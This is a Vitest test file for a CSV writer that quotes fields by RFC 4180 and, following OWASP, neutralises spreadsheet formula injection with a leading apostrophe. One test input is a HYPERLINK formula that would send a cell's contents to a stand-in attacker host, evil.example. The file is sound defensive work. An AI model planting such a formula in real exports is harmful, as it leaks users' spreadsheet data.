import { describe, expect, it } from 'vitest';
import { parseCsv } from './domain/voter-import';
import { csvDocument, csvField, csvLine } from './csv';

describe('the CSV writer', () => {
	it('quotes by RFC 4180', () => {
		expect(csvField('plain')).toBe('plain');
		expect(csvField('a,b')).toBe('"a,b"');
		expect(csvField('say "hi"')).toBe('"say ""hi"""');
		expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
		expect(csvField(null)).toBe('');
		expect(csvField(undefined)).toBe('');
		expect(csvField(['a', 'b'])).toBe('a b');
		expect(csvField(false)).toBe('false');
		expect(csvLine(['a', 1, null])).toBe('a,1,\r\n');
		expect(csvDocument([['h1', 'h2'], ['x', 2]])).toBe('h1,h2\r\nx,2\r\n');
	});

	it('writes a text cell a spreadsheet would run as a formula with a leading apostrophe (OWASP)', () => {
		expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"Klikni")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Klikni"")"`);
		expect(csvField('+420 123')).toBe("'+420 123");
		expect(csvField('-2+3')).toBe("'-2+3");
		expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
		expect(csvField('\t=1')).toBe("'\t=1");
		expect(csvField('\r=1')).toBe(`"'\r=1"`);
		expect(csvField(['=1', 'x'])).toBe("'=1 x");
		// Only at the start, and never a number: a count is written as it is.
		expect(csvField('Nováková-Dvořáková')).toBe('Nováková-Dvořáková');
		expect(csvField('a=b')).toBe('a=b');
		expect(csvField(-3)).toBe('-3');
		expect(csvField(0)).toBe('0');
	});

	it('reads back as the apostrophe-prefixed text', () => {
		const text = csvDocument([['name', 'city'], ['=1+1', 'Brno, "střed"']]);
		expect(parseCsv(text).map((r) => r.fields)).toEqual([
			['name', 'city'],
			["'=1+1", 'Brno, "střed"']
		]);
	});
});
